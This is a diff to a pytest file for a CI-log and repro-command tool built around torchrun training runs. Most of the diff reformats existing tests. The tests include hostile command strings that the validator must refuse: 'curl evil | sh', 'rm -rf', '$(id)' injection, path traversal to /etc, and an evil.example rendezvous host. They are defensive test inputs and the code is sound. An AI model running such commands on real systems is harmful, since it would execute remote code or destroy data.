@@ -107,8 +107,11 @@ def test_binary_junk_truncation_and_bad_bytes(tmp_path):
 
 
 def test_no_failures(tmp_path):
-    path = write(tmp_path, "green.log", (line + "\n" for line in runner_log(
-        [t for t in TESTS if t.outcome == "pass"])))  # fmt: skip
+    path = write(
+        tmp_path,
+        "green.log",
+        (line + "\n" for line in runner_log([t for t in TESTS if t.outcome == "pass"])),
+    )
     result = analyse(path, EXP)
     assert result.failures == [] and result.torch_version == TORCH_VERSION
 
@@ -145,47 +148,74 @@ def test_repro_errors():
         repro_command("NGPU=8 LOG_RANK=0")
 
 
-@pytest.mark.parametrize("command, env, argv", [
-    ("NGPU=4 ./run_train.sh --module m --config 'a b'", {"NGPU": "4"},
-     ["./run_train.sh", "--module", "m", "--config", "a b"]),
-    ("NGPU=2 torchrun --nproc_per_node=2 train.py --x 1", {"NGPU": "2"},
-     ["torchrun", "--nproc_per_node=2", "train.py", "--x", "1"]),
-    ("torchrun --nproc-per-node 4 --standalone --tee 3 scripts/t.py -m x", {},
-     ["torchrun", "--nproc-per-node", "4", "--standalone", "--tee", "3", "scripts/t.py", "-m",
-      "x"]),
-    ("pytest tests/unit/test_a.py::test_b -x", {},
-     ["pytest", "tests/unit/test_a.py::test_b", "-x"]),
-])  # fmt: skip
+@pytest.mark.parametrize(
+    "command, env, argv",
+    [
+        (
+            "NGPU=4 ./run_train.sh --module m --config 'a b'",
+            {"NGPU": "4"},
+            ["./run_train.sh", "--module", "m", "--config", "a b"],
+        ),
+        (
+            "NGPU=2 torchrun --nproc_per_node=2 train.py --x 1",
+            {"NGPU": "2"},
+            ["torchrun", "--nproc_per_node=2", "train.py", "--x", "1"],
+        ),
+        (
+            "torchrun --nproc-per-node 4 --standalone --tee 3 scripts/t.py -m x",
+            {},
+            [
+                "torchrun",
+                "--nproc-per-node",
+                "4",
+                "--standalone",
+                "--tee",
+                "3",
+                "scripts/t.py",
+                "-m",
+                "x",
+            ],
+        ),
+        (
+            "pytest tests/unit/test_a.py::test_b -x",
+            {},
+            ["pytest", "tests/unit/test_a.py::test_b", "-x"],
+        ),
+    ],
+)
 def test_a_repro_runs_as_an_argv_list(command, env, argv):
     repro = repro_argv(command)
     assert (repro.env, repro.argv) == (env, argv)
     assert repro_argv(repro.display()) == repro  # what is shown is what runs
 
 
-@pytest.mark.parametrize("command, said", [
-    ("NGPU=1 sh -c 'curl evil | sh'", "'sh' is not a repro scout runs"),
-    ("./run_train.sh --x", "./run_train.sh runs with NGPU=<n>"),
-    ("BASH_ENV=x NGPU=1 ./run_train.sh", "not BASH_ENV"),
-    ("NGPU=1 TORCHINDUCTOR_CACHE_DIR=/tmp/x ./run_train.sh", "not TORCHINDUCTOR_CACHE_DIR"),
-    ("NGPU=1 ./run_train.sh --job.dump_folder=/etc", "reaches outside the checkout"),
-    ("NGPU=1 ./run_train.sh --config ../../x", "reaches outside the checkout"),
-    ("NGPU=1 ./run_train.sh '--a=\x1b]52;c;x\x07'", "reaches outside the checkout"),
-    ("torchrun -m http.server", "torchrun option '-m' is not one a repro needs"),
-    ("torchrun --no-python rm x.py", "torchrun option '--no-python' is not one"),
-    # torchrun's parser takes unique prefixes: --no-pyt is --no-python, --modu is --module
-    ("torchrun --nproc-per-node=1 --no-pyt sh -c 'id' train.py", "option '--no-pyt' is not"),
-    ("torchrun --modu pip install evil train.py", "option '--modu' is not one"),
-    ("torchrun --rdzv-endpoint=evil.example:29400 train.py", "'--rdzv-endpoint' is not"),
-    ("torchrun --nproc-per-node 'x; id' train.py", "--nproc-per-node 'x; id' is not a value"),
-    ("torchrun --standalone=1 train.py", "--standalone '1' is not a value"),
-    ("torchrun --nproc-per-node=2", "a script of the checkout"),
-    ("torchrun --nproc-per-node=2 rm", "a script of the checkout"),
-    ("pytest -p evil_plugin tests/a.py::b", "pytest runs tests named path.py::test"),
-    ("pytest --override-ini=addopts=-pevil::x tests/a.py::b", "pytest runs tests named"),
-    ("pytest -x", "pytest runs tests named path.py::test"),
-    ("pytest -pthis.py::t", "pytest runs tests named path.py::test"),  # -p: a plugin to import
-    ("NGPU=1 ./run_train.sh; rm -rf x", "'./run_train.sh;' is not a repro scout runs"),
-])  # fmt: skip
+@pytest.mark.parametrize(
+    "command, said",
+    [
+        ("NGPU=1 sh -c 'curl evil | sh'", "'sh' is not a repro scout runs"),
+        ("./run_train.sh --x", "./run_train.sh runs with NGPU=<n>"),
+        ("BASH_ENV=x NGPU=1 ./run_train.sh", "not BASH_ENV"),
+        ("NGPU=1 TORCHINDUCTOR_CACHE_DIR=/tmp/x ./run_train.sh", "not TORCHINDUCTOR_CACHE_DIR"),
+        ("NGPU=1 ./run_train.sh --job.dump_folder=/etc", "reaches outside the checkout"),
+        ("NGPU=1 ./run_train.sh --config ../../x", "reaches outside the checkout"),
+        ("NGPU=1 ./run_train.sh '--a=\x1b]52;c;x\x07'", "reaches outside the checkout"),
+        ("torchrun -m http.server", "torchrun option '-m' is not one a repro needs"),
+        ("torchrun --no-python rm x.py", "torchrun option '--no-python' is not one"),
+        # torchrun's parser takes unique prefixes: --no-pyt is --no-python, --modu is --module
+        ("torchrun --nproc-per-node=1 --no-pyt sh -c 'id' train.py", "option '--no-pyt' is not"),
+        ("torchrun --modu pip install evil train.py", "option '--modu' is not one"),
+        ("torchrun --rdzv-endpoint=evil.example:29400 train.py", "'--rdzv-endpoint' is not"),
+        ("torchrun --nproc-per-node 'x; id' train.py", "--nproc-per-node 'x; id' is not a value"),
+        ("torchrun --standalone=1 train.py", "--standalone '1' is not a value"),
+        ("torchrun --nproc-per-node=2", "a script of the checkout"),
+        ("torchrun --nproc-per-node=2 rm", "a script of the checkout"),
+        ("pytest -p evil_plugin tests/a.py::b", "pytest runs tests named path.py::test"),
+        ("pytest --override-ini=addopts=-pevil::x tests/a.py::b", "pytest runs tests named"),
+        ("pytest -x", "pytest runs tests named path.py::test"),
+        ("pytest -pthis.py::t", "pytest runs tests named path.py::test"),  # -p: a plugin to import
+        ("NGPU=1 ./run_train.sh; rm -rf x", "'./run_train.sh;' is not a repro scout runs"),
+    ],
+)
 def test_a_repro_of_another_shape_is_refused(command, said):
     with pytest.raises(ReproError, match=re.escape(said)):
         repro_argv(command)
@@ -220,8 +250,14 @@ def test_repro_cli(tmp_path):
     script = tmp_path / "run_train.sh"
     script.write_text('#!/bin/sh\necho "ran on $NGPU: $*"\n')
     script.chmod(0o755)
-    done = scout("repro", "--command", "NGPU=1 LOG_RANK=0 ./run_train.sh --a 'b;c' '$(id)'",
-                 "--run", "--repo", str(tmp_path))  # fmt: skip
+    done = scout(
+        "repro",
+        "--command",
+        "NGPU=1 LOG_RANK=0 ./run_train.sh --a 'b;c' '$(id)'",
+        "--run",
+        "--repo",
+        str(tmp_path),
+    )
     assert done.returncode == 0 and done.stdout.strip() == "ran on 1: --a b;c $(id)"  # no shell
     done = scout("repro", "--command", "NGPU=1 sh -c 'echo ran'", "--run", "--repo", tmp_path)
     assert done.returncode == 2 and "'sh' is not a repro scout runs" in done.stderr
@@ -282,9 +318,16 @@ def test_ci_log_reads_pipes_gzip_and_githubs_log_archive(tmp_path):
         assert json.loads(done.stdout)["failing_tests"] == failing  # found once, not twice
     # A pipe, the way a shell hands one over: bash's <(cmd) is /dev/fd/63.
     done = subprocess.run(
-        ["bash", "-c", 'exec "$0" -m scout_tui ci-log <(cat "$1") --json', sys.executable,
-         str(plain)], capture_output=True, text=True,
-    )  # fmt: skip
+        [
+            "bash",
+            "-c",
+            'exec "$0" -m scout_tui ci-log <(cat "$1") --json',
+            sys.executable,
+            str(plain),
+        ],
+        capture_output=True,
+        text=True,
+    )
     assert done.returncode == 0, done.stderr
     assert json.loads(done.stdout)["failing_tests"] == failing
     # A log with no failure in it is green; a log that is not there is a usage error.
@@ -299,8 +342,18 @@ def test_hostile_log_lines_cost_what_their_length_costs(tmp_path):
     runaway, nothing is timed)."""
     header = "===== [a] start " + " end  flavor:  (rc=1)" * 3000 + " x"
     frame = '  File "torchtitan/x.py", line 1, in f' + " " * 100_000 + "x"
-    text = "\n".join([header, "Traceback (most recent call last):", *[frame] * 8,
-                      "RuntimeError: boom", "Failed test flavor: a (rc=1)"]) + "\n"  # fmt: skip
+    text = (
+        "\n".join(
+            [
+                header,
+                "Traceback (most recent call last):",
+                *[frame] * 8,
+                "RuntimeError: boom",
+                "Failed test flavor: a (rc=1)",
+            ]
+        )
+        + "\n"
+    )
     path = write(tmp_path, "hostile.log", text)
     done = scout("ci-log", path, "--json", timeout=60)
     assert done.returncode == 0, done.stderr
